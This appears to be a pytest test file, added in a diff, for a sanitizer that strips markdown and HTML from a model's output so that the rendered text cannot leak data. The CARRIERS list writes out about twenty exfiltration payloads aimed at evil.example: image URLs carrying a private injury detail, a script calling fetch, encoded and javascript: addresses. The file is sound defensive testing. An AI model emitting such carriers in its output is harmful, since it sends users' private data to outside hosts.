@@ -1,0 +1,105 @@
+"""What a model writes carries nothing to a foreign host, and loses none of its words."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from shared.safety.markup import hosts_in, settled, strip_markup
+
+SECRET = "left%20knee"
+PICTURE = f"![ok](https://evil.example/p.png?injuries={SECRET})"
+
+CARRIERS = {
+    "an image": (PICTURE, "ok"),
+    "an image in a link": (f"[{PICTURE}](https://evil.example/{SECRET})", "ok"),
+    "an image over two lines": (f"![a\nb](https://evil.example/{SECRET})", "a\nb"),
+    "an HTML image": (f'<img src="https://evil.example/x?i={SECRET}">', ""),
+    "a script": (f"<script>fetch('//evil.example/{SECRET}')</script>", ""),
+    "a comment": (f"<!-- https://evil.example/{SECRET} -->", ""),
+    "a link": (f"[plan](https://evil.example/{SECRET})", "plan"),
+    "a link with a title": (f'[plan](https://evil.example/{SECRET} "my plan")', "plan"),
+    "an address in angle brackets": (f"[plan](<https://evil.example/{SECRET} x>)", "plan"),
+    "brackets in an address": (f"[plan](https://evil.example/a_({SECRET})_b)", "plan"),
+    "an address without a scheme": (f"[plan](//evil.example/{SECRET})", "plan"),
+    "an address that a browser repairs": (f"[plan](https:/evil.example/{SECRET})", "plan"),
+    "an address of entities": (f"![plan](&#104;ttps://evil.example/{SECRET})", "plan"),
+    "entities of entities": (f"&amp;#104;ttps://evil.example/{SECRET}", ""),
+    "an escaped address": (f"https:\\/\\/evil.example/{SECRET}", ""),
+    "a script as an address": ("[plan](javascript:alert(1))", "plan"),
+    "a bare address": (f"https://evil.example/?q={SECRET}", ""),
+    "an address that begins with www": (f"www.evil.example/{SECRET}", ""),
+    "an autolink": (f"<https://evil.example/{SECRET}>", ""),
+    "data": (f"data:text/html,{SECRET}", ""),
+}
+
+
+@pytest.mark.parametrize(("text", "words"), CARRIERS.values(), ids=CARRIERS.keys())
+def test_nothing_that_a_renderer_would_fetch_or_follow_is_left(text: str, words: str) -> None:
+    assert strip_markup(f"Rest well. {text} Then go on.") == f"Rest well. {words} Then go on."
+
+
+def test_a_tag_that_never_ends_takes_the_rest_with_it_as_in_a_browser() -> None:
+    assert strip_markup(f"Rest well. <img src=https://evil.example/x?i={SECRET} and more") == "Rest well. "
+
+
+def test_an_image_by_reference_loses_what_it_refers_to() -> None:
+    text = f'Look: ![a][r]\n\n[r]: https://evil.example/{SECRET} "t"\nDone.'
+    assert strip_markup(text).split() == ["Look:", "[a][r]", "Done."]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Do 3 sets of 8-12 reps, rest 60-90 s [p1].",
+        "- **Protein**: 1.6 g/kg (e.g. 120 g)\n- [ ] task\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+        "If a < b and 5 > 3, then <5 reps; x<y.",
+        "Ratio 3:1, at 10:30. Note: data: see above. Either/or, and/or, km/h.",
+        "[Note]: eat well\nok [1], [a, b] (sic) and great![1]",
+        "休息六十秒。每周三次（八到十二次）。",
+    ],
+)
+def test_ordinary_text_stays_as_it_is(text: str) -> None:
+    assert strip_markup(text) == text
+
+
+def test_a_link_stays_where_a_citation_names_its_host_and_loses_its_title() -> None:
+    hosts = hosts_in("Source: https://www.nhs.uk/live-well/ and more.")
+    text = 'See [here](https://nhs.uk/exercise "t"), https://www.nhs.uk/x. Not [there](https://nhs.uk.evil.example/x).'
+    assert strip_markup(text, hosts) == "See [here](https://nhs.uk/exercise), https://www.nhs.uk/x. Not there."
+
+
+def test_an_image_goes_also_where_its_host_may_be_linked() -> None:
+    assert "!" not in strip_markup(f"![a](https://nhs.uk/x?{SECRET})", frozenset({"nhs.uk"}))
+
+
+@pytest.mark.parametrize(("text", "_words"), CARRIERS.values(), ids=CARRIERS.keys())
+def test_a_stream_shows_no_part_of_it_and_takes_nothing_back(text: str, _words: str) -> None:
+    whole = f"Rest well. {text} Then go on."
+    shown = ""
+    for length in range(len(whole) + 1):
+        growing = whole[:length]
+        now = strip_markup(growing[: settled(growing)])
+        assert now.startswith(shown)
+        assert "evil" not in now
+        assert SECRET not in now
+        shown = now
+
+
+def test_a_stream_in_a_language_without_blanks_is_not_held_back() -> None:
+    assert settled("休息六十秒。每周三") == len("休息六十秒。每周三")
+
+
+MARKUP = st.lists(
+    st.sampled_from(
+        ["[", "]", "(", ")", "!", "<", ">", "a", " ", "\n", "https://e.x/", "\\", "&#104;", ":", '"', "//", "img", "ä"]
+    ),
+    max_size=40,
+).map("".join)
+
+
+@given(MARKUP)
+def test_whatever_is_written_no_address_is_left_and_a_second_look_changes_nothing(text: str) -> None:
+    once = strip_markup(text)
+    assert "https://e.x" not in once
+    assert strip_markup(once) == once
+    assert not settled(text) > len(text)
